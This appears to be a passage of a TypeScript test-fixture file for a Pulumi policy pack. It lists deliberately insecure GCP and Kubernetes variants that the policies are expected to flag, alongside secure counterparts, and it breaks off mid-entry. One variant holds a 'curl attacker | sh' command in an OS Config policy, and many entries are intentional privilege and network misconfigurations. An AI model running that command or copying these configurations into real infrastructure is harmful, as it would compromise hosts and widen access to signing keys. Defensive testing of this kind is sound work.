/**
 * Classes, not cases: one-change variants of the raw baseline that reach the platform through a type
 * or principal form no list names - a compute kind read only through the classification table, a
 * type from a newer provider, a dynamic provider, a custom resource that embeds runner pods.
 * classes.test.ts runs each in normal and preview mode.
 */
import * as gcp from "@pulumi/gcp";
import * as k8s from "@pulumi/kubernetes";
import * as pulumi from "@pulumi/pulumi";
import * as random from "@pulumi/random";
import { Core, Handles, Mutations, SIGNER_PROJECT, WORKER_PROJECT } from "../../helpers/insecureBaseline";
import { CaughtVariant } from "../../helpers/insecureHarness";
import { ACCESS_POLICY, fixtureProjectNumber } from "../../helpers/perimeterFixture";

export interface ClassVariant extends CaughtVariant {
    name: string;
    /** The class of attack, as docs/policies.md names it. */
    cls: string;
    /** Modes to run in (default both: normal and first preview). */
    modes?: ("normal" | "preview")[];
}

const add = (f: (h: Handles) => void) => (m: Mutations): void => {
    m.after.push(f);
};

/** A resource of any type token: a newer provider's, a dynamic provider's, another package's. */
class Foreign extends pulumi.CustomResource {
    constructor(type: string, name: string, props: pulumi.Inputs) {
        super(type, name, props);
    }
}

const UNCLASSIFIED = "unclassified-resource-types";
const ENCLAVE = "runners-cannot-reach-enclave";
const LPV = "runner-least-privilege";
const LABELS = "role-labels-required";

/** A ScaledJob-like custom resource whose pods are the runner's, in the runner namespace. */
const podCr = (h: Handles, name: string, apiVersion: string, kind: string, spec: Record<string, unknown>, namespace: pulumi.Input<string> = h.k8sNamespace.metadata.name) =>
    new k8s.apiextensions.CustomResource(name, { apiVersion, kind, metadata: { namespace }, spec }, { provider: h.k8sProvider });


/** A folder firewall policy with one ingress allow from 10.0.0.0/8, aimed at the given account only. */
const folderRule = (name: string, sa: pulumi.Input<string>) => {
    const policy = new gcp.compute.FirewallPolicy(`${name}-policy`, { parent: "folders/123456789012", shortName: name });
    new gcp.compute.FirewallPolicyRule(name, { firewallPolicy: policy.name, priority: 100, direction: "INGRESS", action: "allow",
        targetServiceAccounts: [sa], match: { srcIpRanges: ["10.0.0.0/8"], layer4Configs: [{ ipProtocol: "tcp", ports: ["22"] }] } });
    new gcp.compute.FirewallPolicyAssociation(`${name}-assoc`, { firewallPolicy: policy.id, attachmentTarget: "folders/123456789012" });
};

export const CLASS_VARIANTS: ClassVariant[] = [
    { name: "a Privileged Access Manager entitlement grants signing on the signer project", cls: "grants outside the IAM types", policy: UNCLASSIFIED, offender: "pam-signer", mentions: "no rule of the pack reads it yet",
        mutate: add(() => {
            new gcp.privilegedaccessmanager.Entitlement("pam-signer", {
                entitlementId: "sign-now", location: "global", maxRequestDuration: "3600s", parent: `projects/${SIGNER_PROJECT}`,
                eligibleUsers: [{ principals: ["group:devs@acme.example"] }],
                privilegedAccess: { gcpIamAccess: { resource: `//cloudresourcemanager.googleapis.com/projects/${SIGNER_PROJECT}`, resourceType: "cloudresourcemanager.googleapis.com/Project", roleBindings: [{ role: "roles/cloudkms.signer" }] } },
                requesterJustificationConfig: { unstructured: {} },
            });
        }) },
    { name: "an OS Config policy runs a script on the runner VMs", cls: "VM side", policy: UNCLASSIFIED, offender: "os-policy", mentions: "no rule of the pack reads it yet",
        mutate: add((h) => {
            new gcp.osconfig.OsPolicyAssignment("os-policy", {
                project: WORKER_PROJECT, location: "europe-west1-b", name: "persist",
                instanceFilter: { inclusionLabels: [{ labels: { "build-fleet-role": "runner" } }] },
                osPolicies: [{ id: "persist", mode: "ENFORCEMENT", resourceGroups: [{ resources: [{ id: "run", exec: { validate: { interpreter: "SHELL", script: "exit 100" }, enforce: { interpreter: "SHELL", script: "curl attacker | sh" } } }] }] }],
                rollout: { disruptionBudget: { percent: 100 }, minWaitDuration: "0s" },
            }, { dependsOn: [h.vmTemplate] });
        }) },
    { name: "a folder firewall rule aimed at the signer's account opens the signer network to 10.0.0.0/8", cls: "network joins", policy: "pool-network-separation", offender: "folder-signer-in",
        mutate: add((h) => folderRule("folder-signer-in", h.signer.sa.email)) },
    { name: "a TPU VM (a runs row with no reviewed spec) runs as the signer SA", cls: "compute kinds read from the table", policy: ENCLAVE, offender: "signer-sa",
        also: [{ policy: LPV }, { policy: LABELS }],
        mutate: add((h) => {
            new gcp.tpu.V2Vm("tpu-runner", {
                project: WORKER_PROJECT, zone: "europe-west4-a", name: "tpu", acceleratorType: "v2-8", runtimeVersion: "tpu-vm-tf-2.13.0",
                serviceAccount: { email: h.signer.sa.email, scopes: ["cloud-platform"] }, networkConfig: { network: h.vm.network.id, subnetwork: h.vm.subnet.id },
            });
        }) },
    { name: "a Dataplex task runs as the signer SA", cls: "compute kinds read from the table", policy: ENCLAVE, offender: "signer-sa",
        also: [{ policy: LPV }, { policy: LABELS }],
        mutate: add((h) => {
            new gcp.dataplex.Task("dataplex-task", {
                project: WORKER_PROJECT, location: "europe-west1", lake: "lake", taskId: "t",
                triggerSpec: { type: "ON_DEMAND" }, executionSpec: { serviceAccount: h.signer.sa.email },
                spark: { pythonScriptFile: "gs://tenant/script.py" },
            });
        }) },
    { name: "a type from a newer provider takes the signer key", cls: "unclassified types", policy: UNCLASSIFIED, offender: "future-key-user", mentions: "signer key signer-key",
        mutate: add((h) => {
            new Foreign("gcp:futurekms/keyUser:KeyUser", "future-key-user", { cryptoKey: h.key.id, member: h.vm.sa.member });
        }) },
    { name: "a dynamic-provider resource names the signer SA", cls: "unclassified types", policy: UNCLASSIFIED, offender: "dyn-token", mentions: "signer identity",
        mutate: add((h) => {
            new Foreign("pulumi-nodejs:dynamic:Resource", "dyn-token", { target: h.signer.sa.email, lifetime: "3600s" });
        }) },
    { name: "a type from a newer provider writes into the provenance bucket", cls: "unclassified types", policy: UNCLASSIFIED, offender: "future-export", mentions: "provenance bucket",
        mutate: add((h) => {
            new Foreign("gcp:futureexport/sink:Sink", "future-export", { destination: pulumi.interpolate`gs://${h.provenance.name}/x` });
        }) },
    { name: "a type from a newer provider attaches to the signer network", cls: "unclassified types", policy: UNCLASSIFIED, offender: "future-attach", mentions: "signer network",
        mutate: add((h) => {
            new Foreign("gcp:futurenet/attachment:Attachment", "future-attach", { network: h.signer.network.selfLink, peer: h.vm.network.selfLink });
        }) },
    { name: "a KEDA ScaledJob embeds a pod template in the runner namespace", cls: "custom resources with pod templates", policy: UNCLASSIFIED, offender: "scaled-job",
        also: [{ policy: "k8s-runner-namespace-workloads" }],
        mutate: add((h) => {
            podCr(h, "scaled-job", "keda.sh/v1alpha1", "ScaledJob", { jobTargetRef: { template: { spec: { containers: [{ name: "build", image: "busybox", securityContext: { privileged: true } }] } } } });
        }) },
    { name: "a Tekton TaskRun runs steps in the runner namespace", cls: "custom resources with pod templates", policy: UNCLASSIFIED, offender: "task-run",
        also: [{ policy: "k8s-runner-namespace-workloads" }],
        mutate: add((h) => {
            podCr(h, "task-run", "tekton.dev/v1", "TaskRun", { taskSpec: { steps: [{ name: "build", image: "busybox", script: "make" }] } });
        }) },
    // ------------------------------------------------ principals the pack cannot resolve contain every runner
    { name: "a GKE principal set of every Kubernetes service account signs with the key", cls: "principal forms", policy: LPV, offender: "any-ksa-signs",
        also: [{ policy: "single-signer" }], mentions: "may contain every runner",
        mutate: add((h) => {
            new gcp.kms.CryptoKeyIAMMember("any-ksa-signs", { cryptoKeyId: h.key.id, role: "roles/cloudkms.signer",
                member: `principalSet://iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/${WORKER_PROJECT}.svc.id.goog/type/ServiceAccount` });
        }) },
    { name: "a domain may act as the control-plane SA", cls: "principal forms", policy: LPV, offender: "domain-acts-as-cp",
        also: [{ policy: "platform-identity-impersonation" }], mentions: "may contain every runner",
        mutate: add((h) => {
            new gcp.serviceaccount.IAMMember("domain-acts-as-cp", { serviceAccountId: h.controlPlaneSa.name, role: "roles/iam.serviceAccountTokenCreator", member: "domain:acme.example" });
        }) },
    { name: "a group outside the stack writes the provenance bucket", cls: "principal forms", policy: LPV, offender: "group-writes-provenance",
        also: [{ policy: "provenance-by-control-plane" }, { policy: "runners-cannot-reach-enclave" }], mentions: "may contain every runner",
        mutate: add((h) => {
            new gcp.storage.BucketIAMMember("group-writes-provenance", { bucket: h.provenance.name, role: "roles/storage.objectCreator", member: "group:release-bots@acme.example" });
        }) },
    { name: "a new principal:// form invokes the signer", cls: "principal forms", policy: LPV, offender: "new-form-invokes",
        also: [{ policy: "signer-invoked-by-generator-only" }], mentions: "may contain every runner",
        mutate: add((h) => {
            new gcp.cloudrunv2.ServiceIamMember("new-form-invokes", { project: h.service.project, location: h.service.location, name: h.service.name, role: "roles/run.invoker",
                member: "principal://agents.global.org-123.system.id.goog/resources/aiplatform/projects/456/locations/us-central1/reasoningEngines/789" });
        }) },
    { name: "a wildcard GitHub principal set may act as the signer SA", cls: "principal forms", policy: LPV, offender: "github-any-acts-as-signer",
        also: [{ policy: "single-signer" }, { policy: "platform-identity-impersonation" }, { policy: "runners-cannot-reach-enclave" }], mentions: "may contain every runner",
        mutate: add((h) => {
            new gcp.serviceaccount.IAMMember("github-any-acts-as-signer", { serviceAccountId: h.signer.sa.name, role: "roles/iam.workloadIdentityUser",
                member: "principalSet://iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/github/*" });
        }) },
    { name: "a key grant whose member comes from another resource's output, unknown during the first preview", cls: "preview near the enclave", policy: LPV, offender: "late-member-signs",
        modes: ["preview"], mentions: "cannot be proven safe before apply", also: [{ policy: ENCLAVE }],
        mutate: add((h) => {
            const suffix = new random.RandomId("late-member", { byteLength: 4 });
            new gcp.kms.CryptoKeyIAMMember("late-member-signs", { cryptoKeyId: h.key.id, role: "roles/cloudkms.viewer", member: pulumi.interpolate`serviceAccount:auditor-${suffix.hex}@${WORKER_PROJECT}.iam.gserviceaccount.com` });
        }) },
    { name: "a signer project IAM policy whose document is unknown during the first preview", cls: "preview near the enclave", policy: LPV, offender: "late-policy",
        modes: ["preview"], mentions: "cannot be proven safe before apply", also: [{ policy: "single-signer" }, { policy: "signer-key-versions-controlled" }, { policy: "platform-identity-impersonation" }, { policy: "signer-invoked-by-generator-only" }, { policy: "runners-cannot-reach-enclave" }],
        mutate: add(() => {
            const suffix = new random.RandomId("late-policy-suffix", { byteLength: 4 });
            new gcp.projects.IAMMember("late-policy", { project: SIGNER_PROJECT, role: "roles/viewer", member: pulumi.interpolate`user:auditor-${suffix.hex}@acme.example` });
        }) },
    { name: "a signer-labelled Cloud Run job runs a tagged image", cls: "image supply of platform workloads", policy: "signer-service-pinned-image", offender: "signer-batch",
        mutate: add((h) => {
            new gcp.cloudrunv2.Job("signer-batch", { project: SIGNER_PROJECT, location: "europe-west1", deletionProtection: false, labels: { "build-fleet-role": "signer" },
                template: { template: { serviceAccount: h.signer.sa.email, containers: [{ image: "europe-west1-docker.pkg.dev/acme-signer/fleet/rotate:latest" }] } } });
        }) },
    { name: "a control-plane worker pool (the generator) runs a tagged image", cls: "image supply of platform workloads", policy: "signer-service-pinned-image", offender: "generator-pool",
        mutate: add((h) => {
            new gcp.cloudrunv2.WorkerPool("generator-pool", { project: WORKER_PROJECT, location: "europe-west1", deletionProtection: false, labels: { "build-fleet-role": "control-plane" },
                template: { serviceAccount: h.controlPlaneSa.email, containers: [{ image: "europe-west1-docker.pkg.dev/acme-workers/fleet/generator:v1" }] } });
        }) },
];

/** Sound designs with principals the pack cannot resolve: no platform capability, so no finding. */
export const CLASS_SECURE: { name: string; mutate: (m: Mutations) => void }[] = [
    { name: "a folder firewall rule aimed at an account no workload of the stack runs as", mutate: add(() => {
        folderRule("folder-tools-in", new gcp.serviceaccount.Account("tools-sa", { project: WORKER_PROJECT, accountId: "tools" }).email);
    }) },
    { name: "a verifier group reads the signer's public key", mutate: add((h) => {
        new gcp.kms.CryptoKeyIAMMember("verifiers-read-key", { cryptoKeyId: h.key.id, role: "roles/cloudkms.publicKeyViewer", member: "group:release-verifiers@acme.example" });
    }) },
    { name: "a domain reads worker logs", mutate: add(() => {
        new gcp.projects.IAMMember("domain-reads-logs", { project: WORKER_PROJECT, role: "roles/logging.viewer", member: "domain:acme.example" });
    }) },
    { name: "a signer-labelled Cloud Run job runs a digest-pinned image", mutate: add((h) => {
        new gcp.cloudrunv2.Job("signer-batch-pinned", { project: SIGNER_PROJECT, location: "europe-west1", deletionProtection: false, labels: { "build-fleet-role": "signer" },
            template: { template: { serviceAccount: h.signer.sa.email, containers: [{ image: `europe-west1-docker.pkg.dev/acme-signer/fleet/rotate@sha256:${"a".repeat(64)}` }] } } });
    }) },
];

/** Unclassified resources that touch nothing of the platform: an advisory only, never a pass and never a violation. */
export const CLASS_ADVISORIES: { name: string; offender: string; mutate: (m: Mutations) => void }[] = [
    { name: "a widget of an unknown provider with no platform reference", offender: "widget",
        mutate: add(() => {
            new Foreign("acme:thing/widget:Widget", "widget", { size: 3 });
        }) },
    { name: "a ScaledJob outside every runner namespace", offender: "tools-scaled-job",
        mutate: add((h) => {
            podCr(h, "tools-scaled-job", "keda.sh/v1alpha1", "ScaledJob", { jobTargetRef: { template: { spec: { containers: [{ name: "x", image: "busybox" }] } } } }, "tools");
        }) },
];

// ------------------------------------------------ Kubernetes: what the API server does for whoever holds a verb or a class
const K8S_RBAC = "k8s-runner-rbac";
const RUNNER_KSA = { kind: "ServiceAccount", name: "runner", namespace: "runners" };
const k8sAdd = (f: (h: Handles, o: pulumi.CustomResourceOptions) => void) => add((h) => f(h, { provider: h.k8sProvider }));
/** A Role in the runner namespace with `rules`, bound to the runner KSA. */
const runnerRole = (name: string, rules: k8s.types.input.rbac.v1.PolicyRule[]) => k8sAdd((_h, o) => {
    new k8s.rbac.v1.Role(`${name}-role`, { metadata: { name, namespace: "runners" }, rules }, o);
    new k8s.rbac.v1.RoleBinding(name, { metadata: { name, namespace: "runners" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name }, subjects: [RUNNER_KSA] }, o);
});
/** A ClusterRole with `rules`, bound cluster-wide to the runner namespace's service-account group. */
const runnerClusterRole = (name: string, rules: k8s.types.input.rbac.v1.PolicyRule[]) => k8sAdd((_h, o) => {
    new k8s.rbac.v1.ClusterRole(`${name}-role`, { metadata: { name }, rules }, o);
    new k8s.rbac.v1.ClusterRoleBinding(name, { metadata: { name }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name },
        subjects: [{ kind: "Group", name: "system:serviceaccounts:runners", apiGroup: "rbac.authorization.k8s.io" }] }, o);
});
const egressPolicy = (name: string, blocks: { cidr: string; except?: string[] }[]) => k8sAdd((_h, o) => {
    new k8s.networking.v1.NetworkPolicy(name, { metadata: { name, namespace: "runners" },
        spec: { podSelector: {}, policyTypes: ["Egress"], egress: [{ to: blocks.map((ipBlock) => ({ ipBlock })), ports: [{ port: 443, protocol: "TCP" }] }] } }, o);
});
const mutatingPolicy = (name: string, resources: string[]) => k8sAdd((_h, o) => {
    new k8s.admissionregistration.v1.MutatingAdmissionPolicy(name, { metadata: { name },
        spec: { matchConstraints: { resourceRules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources }] }, failurePolicy: "Fail", reinvocationPolicy: "Never",
            mutations: [{ patchType: "ApplyConfiguration", applyConfiguration: { expression: "Object{spec: Object.spec{runtimeClassName: \"runc\"}}" } }] } }, o);
});
const runtimeClass = (name: string, handler: string) => k8sAdd((_h, o) => {
    new k8s.node.v1.RuntimeClass(name, { metadata: { name: "gvisor" }, handler }, o);
});
const priorityClass = (name: string, globalDefault: boolean, preemptionPolicy?: string) => k8sAdd((_h, o) => {
    new k8s.scheduling.v1.PriorityClass(name, { metadata: { name }, value: 1_000_000, globalDefault, preemptionPolicy }, o);
});

CLASS_VARIANTS.push(
    { name: "RBAC lets the runner KSA create Jobs (a controller starts the pods)", cls: "Kubernetes", policy: K8S_RBAC, offender: "runner-jobs",
        mutate: runnerRole("runner-jobs", [{ apiGroups: ["batch"], resources: ["jobs"], verbs: ["create"] }]) },
    { name: "RBAC lets the runner namespace's service accounts patch DaemonSets and CronJobs cluster-wide", cls: "Kubernetes", policy: K8S_RBAC, offender: "runner-daemonsets",
        mutate: runnerClusterRole("runner-daemonsets", [{ apiGroups: ["apps", "batch"], resources: ["daemonsets", "cronjobs"], verbs: ["patch"] }]) },
    { name: "RBAC lets the runner KSA create KEDA ScaledJobs", cls: "Kubernetes", policy: K8S_RBAC, offender: "runner-scaledjobs",
        mutate: runnerRole("runner-scaledjobs", [{ apiGroups: ["keda.sh"], resources: ["scaledjobs"], verbs: ["create"] }]) },
    { name: "RBAC lets the runner namespace's service accounts write mutating webhook configurations", cls: "Kubernetes", policy: K8S_RBAC, offender: "runner-webhooks",
        mutate: runnerClusterRole("runner-webhooks", [{ apiGroups: ["admissionregistration.k8s.io"], resources: ["mutatingwebhookconfigurations"], verbs: ["update"] }]) },
    { name: "RBAC lets the runner namespace's service accounts approve certificate requests", cls: "Kubernetes", policy: K8S_RBAC, offender: "runner-csr",
        mutate: runnerClusterRole("runner-csr", [{ apiGroups: ["certificates.k8s.io"], resources: ["certificatesigningrequests/approval"], verbs: ["update"] },
            { apiGroups: ["certificates.k8s.io"], resources: ["signers"], resourceNames: ["kubernetes.io/kube-apiserver-client"], verbs: ["approve"] }]) },
    { name: "a MutatingAdmissionPolicy rewrites pods with CEL", cls: "Kubernetes", policy: "k8s-admission-webhooks", offender: "rewrite-pods",
        mutate: mutatingPolicy("rewrite-pods", ["pods"]) },
    { name: "a RuntimeClass named gvisor runs runc", cls: "Kubernetes", policy: "k8s-runner-sandboxed", offender: "gvisor-is-runc",
        mutate: runtimeClass("gvisor-is-runc", "runc") },
    { name: "two egress ipBlocks of the runner namespace together cover every IPv4 address", cls: "Kubernetes", policy: "k8s-runner-network-policy", offender: "halves",
        mutate: egressPolicy("halves", [{ cidr: "0.0.0.0/1" }, { cidr: "128.0.0.0/1", except: ["192.168.0.0/16"] }]) },
    { name: "a cluster-wide default PriorityClass preempts", cls: "Kubernetes", policy: "k8s-no-preempting-priority", offender: "default-preempts",
        mutate: priorityClass("default-preempts", true) },
    { name: "the runner pod runs at system-node-critical priority", cls: "Kubernetes", policy: "k8s-no-preempting-priority", offender: "k8s-runner-pod",
        mutate: (m) => {
            m.args.k8sPod = (a) => {
                a.spec.priorityClassName = "system-node-critical";
            };
        } },
);

CLASS_SECURE.push(
    { name: "RBAC lets the runner KSA read Jobs", mutate: runnerRole("runner-reads-jobs", [{ apiGroups: ["batch"], resources: ["jobs"], verbs: ["get", "list", "watch"] }]) },
    { name: "a MutatingAdmissionPolicy that only rewrites ConfigMaps", mutate: mutatingPolicy("rewrite-configmaps", ["configmaps"]) },
    { name: "the gvisor RuntimeClass runs runsc", mutate: runtimeClass("gvisor-runsc", "runsc") },
    { name: "egress ipBlocks of the runner namespace that do not cover everything", mutate: egressPolicy("two-nets", [{ cidr: "203.0.113.0/24" }, { cidr: "198.51.100.0/24" }]) },
    { name: "a cluster-wide default PriorityClass that never preempts", mutate: priorityClass("default-no-preempt", true, "Never") },
    { name: "the runner pod runs at a priority class that never preempts", mutate: (m) => {
        priorityClass("batch-low", false, "Never")(m);
        m.args.k8sPod = (a) => {
            a.spec.priorityClassName = "batch-low";
        };
    } },
);

// ------------------------------------------------ grants outside the IAM types: subscriptions that write, roles that edit roles
/** A topic and a subscription that writes its messages (Cloud Storage or BigQuery) as `sa` into `dest`. */
const writingSubscription = (name: string, kind: "storage" | "bigquery", dest: (h: Handles) => pulumi.Input<string>, sa?: (h: Handles) => pulumi.Input<string>) => add((h) => {
    const topic = new gcp.pubsub.Topic(`${name}-topic`, { project: WORKER_PROJECT });
    new gcp.pubsub.Subscription(name, {
        project: WORKER_PROJECT, topic: topic.name,
        ...(kind === "storage"
            ? { cloudStorageConfig: { bucket: dest(h), filenamePrefix: "attestations/", serviceAccountEmail: sa?.(h) } }
            : { bigqueryConfig: { table: dest(h), useTableSchema: true, serviceAccountEmail: sa?.(h) } }),
    });
});
const tenantSa = (h: Handles) => {
    void h;
    return new gcp.serviceaccount.Account(`tenant-writer-${Math.random().toString(36).slice(2, 8)}`, { project: WORKER_PROJECT, accountId: "tenant-writer" }).email;
};
/** A custom role of the signer project bound on the signer key to the control plane (read-only today). */
const boundCustomRole = (h: Handles) => {
    const role = new gcp.projects.IAMCustomRole("key-reader-role", { project: SIGNER_PROJECT, roleId: "keyReader", title: "Key reader", permissions: ["cloudkms.cryptoKeys.get"] });
    new gcp.kms.CryptoKeyIAMMember("cp-reads-key", { cryptoKeyId: h.key.id, role: role.name, member: h.controlPlaneSa.member });
};

CLASS_VARIANTS.push(
    { name: "a Cloud Storage subscription writes its topic's messages into the provenance bucket", cls: "grants outside the IAM types", policy: "provenance-by-control-plane", offender: "sub-into-provenance",
        mutate: writingSubscription("sub-into-provenance", "storage", (h) => h.provenance.name, tenantSa) },
    { name: "a BigQuery subscription writes as the control-plane SA", cls: "grants outside the IAM types", policy: "platform-identity-impersonation", offender: "sub-as-control-plane",
        mutate: writingSubscription("sub-as-control-plane", "bigquery", () => `${WORKER_PROJECT}.audit.events`, (h) => h.controlPlaneSa.email) },
    { name: "a Cloud Storage subscription writes as the signer SA", cls: "grants outside the IAM types", policy: "platform-identity-impersonation", offender: "sub-as-signer",
        mutate: writingSubscription("sub-as-signer", "storage", () => "tenant-drops", (h) => h.signer.sa.email) },
    { name: "a user can edit (iam.roles.update) a custom role bound on the signer key", cls: "grants outside the IAM types", policy: "single-signer", offender: "role-editor",
        also: [{ policy: "signer-invoked-by-generator-only" }, { policy: "signer-key-versions-controlled" }, { policy: "provenance-by-control-plane" }],
        mutate: add((h) => {
            boundCustomRole(h);
            new gcp.projects.IAMMember("role-editor", { project: SIGNER_PROJECT, role: "roles/iam.roleAdmin", member: "user:dev@acme.example" });
        }) },
);

CLASS_SECURE.push(
    { name: "a Cloud Storage subscription writes as a tenant SA into a tenant bucket", mutate: writingSubscription("sub-tenant", "storage", () => "tenant-drops", tenantSa) },
    { name: "a custom role bound on the signer key with nobody able to edit it", mutate: add(boundCustomRole) },
    { name: "a user can edit custom roles of a project where none is bound", mutate: add(() => {
        new gcp.projects.IAMMember("role-editor-workers", { project: WORKER_PROJECT, role: "roles/iam.roleAdmin", member: "user:dev@acme.example" });
    }) },
);

// ------------------------------------------------ network joins: PSC attachments and interfaces, Secure Web Proxy, bridge perimeters
/** A PSC network attachment in a subnet (the signer's, a pool's, or a tenant's). */
const pscAttachment = (name: string, project: string, subnet: (h: Handles) => pulumi.Input<string>) => (h: Handles) =>
    new gcp.compute.NetworkAttachment(name, { project, region: "europe-west1", connectionPreference: "ACCEPT_AUTOMATIC", subnetworks: [subnet(h)] });
/** A Secure Web Proxy on the vm pool's network whose policy has one allow rule. */
const runnerProxy = (name: string, sessionMatcher: string) => add((h) => {
    const policy = new gcp.networksecurity.GatewaySecurityPolicy(`${name}-policy`, { project: WORKER_PROJECT, location: "europe-west1", name: `${name}-policy` });
    new gcp.networksecurity.GatewaySecurityPolicyRule(name, { project: WORKER_PROJECT, location: "europe-west1", name, gatewaySecurityPolicy: policy.name,
        enabled: true, priority: 1, basicProfile: "ALLOW", sessionMatcher });
    new gcp.networkservices.Gateway(`${name}-gateway`, { project: WORKER_PROJECT, location: "europe-west1", name: `${name}-gw`, type: "SECURE_WEB_GATEWAY",
        addresses: ["10.10.0.50"], ports: [443], network: h.vm.network.id, subnetwork: h.vm.subnet.id, gatewaySecurityPolicy: policy.id });
});
const bridge = (name: string, members: string[]) => add(() => {
    new gcp.accesscontextmanager.ServicePerimeter(name, { parent: ACCESS_POLICY, name: `${ACCESS_POLICY}/servicePerimeters/${name.replace(/-/g, "_")}`, title: name,
        perimeterType: "PERIMETER_TYPE_BRIDGE", status: { resources: members } });
});

CLASS_VARIANTS.push(
    { name: "a PSC network attachment in the signer's subnet", cls: "network joins", policy: "pool-network-separation", offender: "psc-into-signer",
        mutate: add((h) => pscAttachment("psc-into-signer", SIGNER_PROJECT, (x) => x.signer.subnet.selfLink)(h)) },
    { name: "a PSC network attachment in the k8s pool's subnet", cls: "network joins", policy: "pool-network-separation", offender: "psc-into-k8s",
        mutate: add((h) => pscAttachment("psc-into-k8s", WORKER_PROJECT, (x) => x.k8s.subnet.id)(h)) },
    { name: "a runner VM with a PSC interface into the signer's subnet", cls: "network joins", policy: "runner-network-attachment", offender: "vm-template",
        also: [{ policy: "pool-network-separation" }],
        mutate: (m) => {
            m.args.vmTemplate = (a, core) => {
                const att = pscAttachment("psc-into-signer-2", SIGNER_PROJECT, () => core.signer.subnet.selfLink)(core as Handles);
                a.networkInterfaces = [...a.networkInterfaces, { networkAttachment: att.id }];
            };
        } },
    { name: "a Secure Web Proxy on a runner network allows every session", cls: "network joins", policy: "runner-egress-default-deny", offender: "swp-allow-all",
        mutate: runnerProxy("swp-allow-all", "true") },
    { name: "a bridge perimeter joins the signer project to the worker project", cls: "network joins", policy: "signer-perimeter", offender: "signer-bridge",
        mutate: bridge("signer-bridge", [`projects/${fixtureProjectNumber(SIGNER_PROJECT)}`, `projects/${fixtureProjectNumber(WORKER_PROJECT)}`]) },
);

CLASS_SECURE.push(
    { name: "a PSC network attachment in a tenant subnet", mutate: add(() => {
        const net = new gcp.compute.Network("tenant-net", { project: "acme-tenant", autoCreateSubnetworks: false });
        const sub = new gcp.compute.Subnetwork("tenant-subnet", { project: "acme-tenant", region: "europe-west1", network: net.id, ipCidrRange: "192.168.50.0/24",
            logConfig: { aggregationInterval: "INTERVAL_5_SEC", flowSampling: 1, metadata: "INCLUDE_ALL_METADATA" } });
        new gcp.compute.NetworkAttachment("psc-tenant", { project: "acme-tenant", region: "europe-west1", connectionPreference: "ACCEPT_AUTOMATIC", subnetworks: [sub.id] });
    }) },
    { name: "a Secure Web Proxy on a runner network allows github.com only", mutate: runnerProxy("swp-github", "host() == 'github.com'") },
    { name: "a bridge perimeter between two tenant projects", mutate: bridge("tenant-bridge", ["projects/777000001", "projects/777000002"]) },
);

// ------------------------------------------------ the image supply of runners and control plane: remote and virtual repositories
const RUNNER_REPO_LABELS = { "build-fleet-role": "runner", "build-fleet-pool": "linux-vm" };
const REGISTRY = "registry-write-publishing-identity-only";
/** A standard Docker repository in the worker project. */
const plainRepo = (name: string, labels?: Record<string, string>) =>
    new gcp.artifactregistry.Repository(name, { project: WORKER_PROJECT, location: "europe-west1", repositoryId: name, format: "DOCKER", labels });
/** A virtual runner (or release) repository over `upstreams`. */
const virtualRepo = (name: string, upstreams: pulumi.Input<string>[], labels: Record<string, string> = RUNNER_REPO_LABELS) =>
    new gcp.artifactregistry.Repository(name, { project: WORKER_PROJECT, location: "europe-west1", repositoryId: name, format: "DOCKER", mode: "VIRTUAL_REPOSITORY", labels,
        dockerConfig: labels["build-fleet-role"] === "control-plane" ? { immutableTags: true } : undefined,
        virtualRepositoryConfig: { upstreamPolicies: upstreams.map((repository, i) => ({ id: `u${i}`, repository, priority: i + 1 })) } });

CLASS_VARIANTS.push(
    { name: "the runner image repository is a remote repository of Docker Hub", cls: "image supply", policy: REGISTRY, offender: "runner-remote",
        mutate: add(() => {
            new gcp.artifactregistry.Repository("runner-remote", { project: WORKER_PROJECT, location: "europe-west1", repositoryId: "runner-remote", format: "DOCKER", mode: "REMOTE_REPOSITORY",
                labels: RUNNER_REPO_LABELS, remoteRepositoryConfig: { dockerRepository: { publicRepository: "DOCKER_HUB" } } });
        }) },
    { name: "a virtual runner image repository reads an upstream outside the stack", cls: "image supply", policy: REGISTRY, offender: "runner-virtual-ext",
        mutate: add(() => {
            virtualRepo("runner-virtual-ext", ["projects/acme-tenant/locations/europe-west1/repositories/tenant-images"]);
        }) },
    { name: "a virtual runner image repository reads an upstream a runner can write", cls: "image supply", policy: REGISTRY, offender: ["runner-virtual", "runner-writes-upstream"],
        also: [{ policy: LPV }],
        mutate: add((h) => {
            const up = plainRepo("tenant-upstream");
            new gcp.artifactregistry.RepositoryIamMember("runner-writes-upstream", { project: WORKER_PROJECT, location: "europe-west1", repository: up.name, role: "roles/artifactregistry.writer", member: h.vm.sa.member });
            virtualRepo("runner-virtual", [up.id]);
        }) },
    { name: "a virtual release registry reads an upstream a developer can write", cls: "image supply", policy: REGISTRY, offender: "release-virtual",
        mutate: add(() => {
            const up = plainRepo("dev-upstream");
            new gcp.artifactregistry.RepositoryIamMember("dev-writes-upstream", { project: WORKER_PROJECT, location: "europe-west1", repository: up.name, role: "roles/artifactregistry.writer", member: "user:dev@acme.example" });
            virtualRepo("release-virtual", [up.id], { "build-fleet-role": "control-plane" });
        }) },
);

CLASS_SECURE.push(
    { name: "a virtual runner image repository over a standard upstream of the stack that no runner writes", mutate: add(() => {
        virtualRepo("runner-virtual-ok", [plainRepo("runner-upstream-ok").id]);
    }) },
);

// ------------------------------------------------ audit trail (I12) and GKE Autopilot defaults
/** The runner cluster as Autopilot: no node config of its own, nodes from auto-provisioning defaults. */
const autopilot = (sa?: (core: Core) => pulumi.Input<string>) => (m: Mutations): void => {
    m.args.k8sCluster = (a, core) => {
        a.enableAutopilot = true;
        delete a.nodeConfig;
        delete a.removeDefaultNodePool;
        delete a.initialNodeCount;
        if (sa) {
            a.clusterAutoscaling = { autoProvisioningDefaults: { serviceAccount: sa(core), oauthScopes: ["https://www.googleapis.com/auth/cloud-platform"] } };
        }
    };
};
const workerLogBucket = (name: string, retentionDays: number, locked: boolean) => add(() => {
    new gcp.logging.ProjectBucketConfig(name, { project: WORKER_PROJECT, location: "global", bucketId: "_Default", retentionDays, locked });
});
const interceptingSink = (name: string, filter: string) => add(() => {
    new gcp.logging.OrganizationSink(name, { orgId: "123456789012", name, destination: "storage.googleapis.com/acme-central-logs", filter, interceptChildren: true, includeChildren: true });
});

CLASS_VARIANTS.push(
    { name: "an organization sink intercepts its children's Cloud KMS audit logs", cls: "audit trail", policy: "kms-audit-logging", offender: "central-intercept",
